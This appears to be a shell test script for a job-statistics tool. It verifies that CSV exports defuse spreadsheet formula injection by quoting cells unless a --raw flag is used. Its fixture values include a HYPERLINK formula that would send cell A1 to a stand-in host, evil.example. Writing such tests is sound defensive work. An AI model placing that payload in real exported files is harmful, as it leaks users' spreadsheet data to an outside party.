#!/bin/sh
# CSV injection (OWASP): titles and companies that a spreadsheet would run as
# formulas come out of every CSV jobstats writes as text, after a single
# quote, unless --raw; numbers stay numbers.  Read back with Python's csv.
. "${top_srcdir:-$(dirname "$0")/..}/tests/e2e-lib.sh"
need_python

expect_status 0 js source add formulas "$fixtures/formulas/page-1.html"
expect_status 0 js crawl

# check_cells FILE MODE: every text cell of FILE is safe (MODE safe) or as the
# page said (MODE raw); the hostile values are there either way.
check_cells() {
	"$PYTHON3" - "$1" "$2" <<'PY' || fail "$1 ($2): cells not as expected"
import csv, sys
path, mode = sys.argv[1], sys.argv[2]
rows = list(csv.DictReader(open(path, newline="")))
hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Apply")', "-Data Engineer",
           "@SUM(A1:A9)", "+1 555 0100"]
numeric = {"salary_min", "salary_max", "annual_min", "annual_max", "annual_factor",
           "postings", "n", "min", "p10", "p25", "median", "p75", "p90", "max", "mean",
           "converted", "other_currency", "unknown_period", "estimates", "estimated",
           "with_salary", "typical_min", "typical_max", "small_group", "threshold"}
cells = [v for r in rows for k, v in r.items() if k not in numeric]
for h in hostile:
    want = h if mode == "raw" else "'" + h
    assert want in cells or not any(h in c for c in cells), (h, mode)
for c in cells:
    if mode == "safe":
        assert not c or c[0] not in "=+-@\t\r\n", c
for r in rows:
    for k in numeric & r.keys():
        if r[k]:
            float(r[k])  # a number, untouched
PY
}

expect_status 0 js export --what postings --format csv
cp "$scratch/out" "$scratch/postings.csv"
check_cells "$scratch/postings.csv" safe
grep -qF ",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Apply\"\")\"," "$scratch/postings.csv" ||
	fail "the =HYPERLINK title is not quoted after a single quote: $(cat "$scratch/postings.csv")"
expect_grep ",\"'-Data Engineer\"," "$scratch/postings.csv"
expect_grep ",\"'+1 555 0100\"," "$scratch/postings.csv"
expect_grep ",\"'@SUM(A1:A9)\"," "$scratch/postings.csv"
ok "export --what postings: formula-like titles and companies are text"

expect_status 0 js export --what postings --format csv --raw
check_cells "$scratch/out" raw
expect_grep ',-Data Engineer,' "$scratch/out"
ok "export --raw: cells as the page said"

expect_status 0 js export --what salaries --format csv
check_cells "$scratch/out" safe
expect_grep "^\"'-Data Engineer\",all," "$scratch/out"
ok "export --what salaries: group names are text"

expect_status 0 js report --role "-Data Engineer" --format csv
check_cells "$scratch/out" safe
expect_grep "^\"'-Data Engineer\",all,,2," "$scratch/out"
expect_status 0 js report --role "-Data Engineer" --format csv --raw
expect_grep "^-Data Engineer,all,,2," "$scratch/out"
ok "report --format csv: the role is text unless --raw"

expect_status 2 js report --role "Data Engineer" --raw
expect_grep "raw goes with --format csv" "$scratch/err"
expect_status 2 js export --what postings --format json --raw
ok "--raw without CSV is a usage error"
